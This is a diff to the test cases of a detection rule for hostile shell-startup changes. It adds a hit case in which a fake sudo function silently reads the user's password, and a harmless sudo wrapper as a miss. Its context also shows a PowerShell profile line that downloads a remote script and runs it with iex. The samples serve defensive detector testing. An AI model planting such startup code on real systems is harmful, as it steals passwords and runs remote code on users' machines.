@@ -119,6 +119,11 @@ ruleCases(scheduled, {
 ruleCases(shellStart, {
   hits: [
     {
+      name: 'a false prompt for a password',
+      path: 'a.sh',
+      text: 'sudo() {\n  local p\n  IFS= read -rs p\n  command sudo "$@"\n}\n',
+    },
+    {
       name: 'a download beside a version manager',
       path: 'a.ps1',
       text: "Add-Content $PROFILE 'fnm env | iex; irm https://x.dev/a | iex'\n",
@@ -170,6 +175,11 @@ ruleCases(shellStart, {
     },
   ],
   misses: [
+    {
+      name: 'a function around a program',
+      path: 'a.sh',
+      text: 'sudo() {\n  command sudo -E "$@"\n}\n',
+    },
     {
       name: 'a file that is kept under another name',
       path: 'a.sh',
